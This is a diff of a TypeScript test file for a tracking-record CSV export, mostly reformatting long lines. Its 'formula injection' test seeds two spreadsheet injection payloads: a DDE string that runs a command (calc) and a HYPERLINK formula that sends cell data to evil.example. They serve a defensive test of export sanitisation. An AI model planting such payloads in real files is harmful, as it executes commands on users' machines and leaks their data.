@@ -78,7 +78,9 @@ beforeAll(async () => {
   jose = await customerWithMailbox('José Núñez Peña');
 
   // Twelve in one statement: the same created_at, so only the id orders them.
-  await db().insert(trackings).values(Array.from({ length: 12 }, (_, i) => tracking(i + 1, i % 2 ? jose : ana)));
+  await db()
+    .insert(trackings)
+    .values(Array.from({ length: 12 }, (_, i) => tracking(i + 1, i % 2 ? jose : ana)));
   // Ten in the same millisecond, apart by microseconds (a JavaScript Date cannot tell them apart);
   // two of them at the very same instant.
   const micro = (us: number) => sql`${`2026-03-01 12:00:00.123${String(us).padStart(3, '0')}+00`}::timestamptz`;
@@ -90,7 +92,15 @@ beforeAll(async () => {
   // The spec example: Ana's parcel waiting for a repack, 1 kg, USD 0, medium priority.
   await db()
     .insert(trackings)
-    .values({ ...tracking(26, ana), trackingNumber: 'QQOTHER003', status: 'needs_reempaque', priority: 'medium', carrier: 'DHL', estimatedWeight: 1, estimatedValue: 0 });
+    .values({
+      ...tracking(26, ana),
+      trackingNumber: 'QQOTHER003',
+      status: 'needs_reempaque',
+      priority: 'medium',
+      carrier: 'DHL',
+      estimatedWeight: 1,
+      estimatedValue: 0,
+    });
 });
 afterAll(async () => {
   await server?.stop();
@@ -116,7 +126,10 @@ function linesOf(body: string): string[] {
 }
 
 /** The tracking numbers of the data lines, in order. */
-const numbersOf = (body: string) => linesOf(body).slice(1).map((line) => line.slice(1, line.indexOf('"', 1)));
+const numbersOf = (body: string) =>
+  linesOf(body)
+    .slice(1)
+    .map((line) => line.slice(1, line.indexOf('"', 1)));
 
 /** The batches of an export, failing instead of looping should a keyset not advance. */
 async function batchesOf(params: TrackingListParams, batchSize: number): Promise<string[][]> {
@@ -264,8 +277,21 @@ describe('formula injection', () => {
     await db()
       .insert(trackings)
       .values([
-        { ...tracking(901, mallory), trackingNumber: 'INJ0901', status: 'created' as const, carrier: `@SUM(1+9)*cmd|' /C calc'!A0`, estimatedWeight: 2.5, estimatedValue: 1234.5 },
-        { ...tracking(902, mallory), trackingNumber: 'INJ0902', carrier: `=HYPERLINK("http://evil.example/?d="&A1,"Ver")`, estimatedWeight: 0.75, estimatedValue: 0 },
+        {
+          ...tracking(901, mallory),
+          trackingNumber: 'INJ0901',
+          status: 'created' as const,
+          carrier: `@SUM(1+9)*cmd|' /C calc'!A0`,
+          estimatedWeight: 2.5,
+          estimatedValue: 1234.5,
+        },
+        {
+          ...tracking(902, mallory),
+          trackingNumber: 'INJ0902',
+          carrier: `=HYPERLINK("http://evil.example/?d="&A1,"Ver")`,
+          estimatedWeight: 0.75,
+          estimatedValue: 0,
+        },
       ]);
 
     const res = await download(server.app, admin, { q: mallory.email });
@@ -292,7 +318,10 @@ describe('formula injection', () => {
     const values = all.map((r) => r[TRACKINGS_CSV_HEADERS.indexOf('Valor estimado (USD)')]);
     expect([...weights, ...values].every(isSpreadsheetNumber)).toBe(true);
     const [sums] = await db()
-      .select({ weight: sql<string>`sum(${trackings.estimatedWeight})::text`, value: sql<string>`sum(${trackings.estimatedValue})::text` })
+      .select({
+        weight: sql<string>`sum(${trackings.estimatedWeight})::text`,
+        value: sql<string>`sum(${trackings.estimatedValue})::text`,
+      })
       .from(trackings);
     const total = (cells: string[]) => cells.reduce((sum, cell) => sum + Math.round(Number(cell) * 100), 0) / 100;
     expect(total(weights)).toBe(Number(sums.weight));
